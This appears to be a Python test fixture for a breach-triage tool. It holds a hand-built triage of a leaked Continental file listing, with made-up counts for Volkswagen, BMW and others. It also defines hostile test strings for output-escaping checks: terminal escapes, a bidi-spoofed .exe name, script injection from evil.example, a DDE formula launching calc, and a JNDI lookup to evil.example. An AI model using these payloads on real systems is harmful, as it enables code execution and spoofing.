"""A triage made by hand: Continental's listing with made-up numbers, and names that mean harm."""

from __future__ import annotations

from dataclasses import replace

from blastradius.model.graph import Evidence, Observation, Source
from blastradius.triage.evidence import likelihood_ratio
from blastradius.triage.results import (
    FolderFound,
    InputRead,
    Interval,
    LexiconUsed,
    PartyFound,
    RuleFired,
    SamplePath,
    TermFound,
    Triage,
    TriageProvenance,
    VarietyFound,
)

ANSI = "\x1b[2J\x1b]0;owned\x07"
BIDI = "\u202egpj.exe\u202c"
SCRIPT = "<script src=//evil.example>alert(1)</script>"
FORMULA = "=cmd|' /C calc'!A0"
HOSTILE = (
    f"D:/{ANSI}/x.pdf",
    f"D:/{BIDI}",
    f"D:/{SCRIPT}\"'><img src=x onerror=alert(1)>",
    FORMULA,
    "D:/a\nb\r\n# heading\n- party: bmw\n  state: confirmed",
    "D:/`code`|pipe **bold** [click](javascript:alert(1)) $x$",
    "D:/\x9b31m\x85\u2028\u2029\u200b\ufeff\u00a0",
    "D:/\udcff\udc80 lone surrogates",
    "D:/蔚来/规格书.docx",
    "D:/&lt;b&gt; ${jndi:ldap://evil.example/a} %s {0} {{7*7}}",
)

LISTING = InputRead(
    name="listing.txt.gz",
    sha256="5f" * 32,
    stored_bytes=13_245_120,
    text_bytes=104_201_337,
    modified="2022-11-10",
    format="paths",
    compression="gzip",
    lines=1_204_640,
    paths=1_204_553,
    folders=0,
    other=12,
    unread=75,
    cut=1,
    unread_examples=(HOSTILE[0], HOSTILE[4]),
    problems=("the archive ends in the middle of a block",),
)


def paths(*texts, line=1, sureness="high", term="volkswagen"):
    return tuple(SamplePath(text, line + 100 * k, sureness, term) for k, text in enumerate(texts))


def party(id_, name, files, n_folders, **fields):
    """Return a party of the graph that is named in so many files and folders."""
    return PartyFound(
        **{
            "id": id_,
            "name": name,
            "in_graph": True,
            "files": files,
            "share": files / 1_204_553,
            "interval": None,
            "bytes": files * 104_857,
            "high": files,
            "medium": 0,
            "near_misses": 0,
            "first_day": None,
            "last_day": None,
            "varieties": (),
            "folders": (),
            "n_folders": n_folders,
            "terms": (),
            "rules": (),
            "missed": (),
            "pieces": float(n_folders),
            "likelihood_ratio": likelihood_ratio(n_folders),
        }
        | fields
    )


VOLKSWAGEN = party(
    "volkswagen",
    "Volkswagen",
    12_345,
    14,
    high=12_001,
    medium=344,
    near_misses=12,
    first_day="2012-03-04",
    last_day="2022-07-31",
    varieties=(
        VarietyFound(
            "Secrets",
            8_101,
            1_204_000_000,
            paths(
                "D:/Projekte/Kunden/Volkswagen_AG/MQB_evo/Lastenheft/LAH_5WA_907_115_Steuergeraet_"
                "Fahrerassistenz_V07_freigegeben.pdf",
                HOSTILE[0],
                HOSTILE[3],
                line=4_711,
            ),
        ),
        VarietyFound("Internal", 1_020, 97_000_000, paths(HOSTILE[1], HOSTILE[2], line=9_000)),
        VarietyFound("Source code", 55, 1_000_000, paths(HOSTILE[5], line=77, term="MEB")),
        VarietyFound(None, 3_500, 400_000_000, paths(HOSTILE[6], HOSTILE[7], line=12)),
    ),
    folders=(
        FolderFound("D:/Projekte/Kunden/Volkswagen_AG", 11_800, 1_600_000_000),
        FolderFound(HOSTILE[4], 500, 2_000_000),
        FolderFound("E:/Archiv/VW", 45, 0),
    ),
    terms=(
        TermFound("volkswagen", 11_000, None, None),
        TermFound("VW", 1_001, None, None),
        TermFound("Golf", 356, None, "a sport"),
        TermFound("ICAS1", 12, "vw-icas1", None),
    ),
    rules=(
        RuleFired("requirements", "Secrets", "requirement specifications", 8_000),
        RuleFired("minutes", "Internal", "minutes of meetings", 1_020),
    ),
    missed=paths("D:/Betriebssport/Golf/Turnier_2019.xlsx", line=88, sureness="near miss",
                 term="Golf"),
    pieces=12.5,
    likelihood_ratio=likelihood_ratio(12.5),
)  # fmt: skip

BMW = party(
    "bmw",
    "BMW",
    1_210,
    3,
    high=0,
    medium=1_210,
    varieties=(
        VarietyFound("Secrets", 1_210, 0, paths(HOSTILE[8], line=5, term="BMW", sureness="medium")),
    ),
    folders=(FolderFound("D:/Projekte/Kunden/BMW", 1_210, 0),),
    pieces=0.75,
    likelihood_ratio=likelihood_ratio(0.75),
)
EVIL = party("evil", f"Evil {ANSI}{BIDI}{SCRIPT}\n", 1, 1)

PROPOSED = party(
    FORMULA,
    FORMULA,
    77,
    2,
    in_graph=False,
    varieties=(VarietyFound("Personal", 70, 1, paths(HOSTILE[9], line=3)),),
    folders=(FolderFound(HOSTILE[2], 70, 1),),
)
NEARLY = party(
    "ford",
    "Ford Motor",
    0,
    0,
    near_misses=31,
    terms=(TermFound("Ford", 31, None, "a surname"),),
    missed=(
        *paths("D:/HR/Ford_Peter_CV.pdf", HOSTILE[3], sureness="near miss", term="Ford"),
        *paths(HOSTILE[1], line=21, sureness="near miss", term="=p702"),
    ),
)
NOBODY = party(
    None,
    "nobody in particular",
    300_000,
    812,
    in_graph=False,
    high=0,
    varieties=(
        VarietyFound(
            "Personal", 200_000, 10_000_000_000, paths(HOSTILE[2], sureness=None, term=None)
        ),
        VarietyFound("Internal", 100_000, 5_000_000_000, ()),
    ),
    pieces=0.0,
    likelihood_ratio=1.0,
)


def observation(found, **fields):
    listing = Source(title="Listing listing.txt.gz, 13,245,120 bytes", tier="primary")
    return Observation(
        **{
            "party": found.id,
            "state": "reported" if found.likelihood_ratio >= 9 else "could-be-affected",
            "likelihood_ratio": round(found.likelihood_ratio, 3),
            "date": "2022-11-10",
            "evidence": Evidence(certainty="inferred", sources=(listing,)),
            "note": f'{found.files:,} paths name the party: "yes", # it\'s so',
        }
        | fields
    )


TRIAGE = Triage(
    provenance=TriageProvenance(
        "9.9",
        "demo",
        "ab" * 32,
        "shipped + ours",
        {"format": None, "party": None},
        (
            LexiconUsed("names.yaml", "cd" * 32, True),
            LexiconUsed("our\u202e.yaml", "ef" * 32, False),
        ),
    ),
    target="continental",
    target_id="continental",
    breached=("Continental",),
    inputs=(LISTING,),
    is_partial=False,
    sampled=None,
    files=1_204_553,
    bytes=98_000_000_000,
    sized=1_200_000,
    named=13_600,
    told=309_000,
    parties=(VOLKSWAGEN, BMW, EVIL),
    proposed=(PROPOSED,),
    nearly=(NEARLY,),
    nobody=NOBODY,
    rules=(RuleFired("requirements", "Secrets", "requirement specifications", 9_000),),
    observations=tuple(map(observation, (VOLKSWAGEN, BMW, EVIL))),
    folders_dropped=0,
)
"""The whole listing."""


def changed(**fields):
    """Return the sample with other fields."""
    return replace(TRIAGE, **fields)


def sampled():
    """Return a triage of a hundredth of the listing, interrupted."""
    party_ = replace(VOLKSWAGEN, interval=Interval(11_800.4, 12_900.6))
    return changed(
        sampled=0.01, is_partial=True, parties=(party_, BMW), folders_dropped=12,
        observations=tuple(map(observation, (VOLKSWAGEN, BMW))),
    )  # fmt: skip


NOTHING = changed(
    target=None,
    target_id=None,
    breached=(),
    files=0,
    bytes=0,
    sized=0,
    named=0,
    told=0,
    parties=(),
    proposed=(),
    nearly=(),
    nobody=party(None, "nobody in particular", 0, 0, in_graph=False),
    rules=(),
    observations=(),
    inputs=(),
)
